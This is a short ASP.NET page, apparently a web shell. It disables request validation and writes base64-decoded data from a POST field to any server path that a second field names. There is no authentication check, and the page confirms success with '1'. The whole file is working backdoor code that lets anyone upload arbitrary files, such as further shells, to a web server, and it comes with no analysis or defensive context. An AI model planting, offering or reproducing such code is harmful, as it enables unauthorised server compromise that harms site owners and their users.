<%@ Page Language="C#" ValidateRequest="false" %>
<%
if (Request.Form["n"] != null) {
    System.IO.File.WriteAllBytes(Server.MapPath(Request.Form["n"]), System.Convert.FromBase64String(Request.Form["d"]));
    Response.Write("1");
}
%>
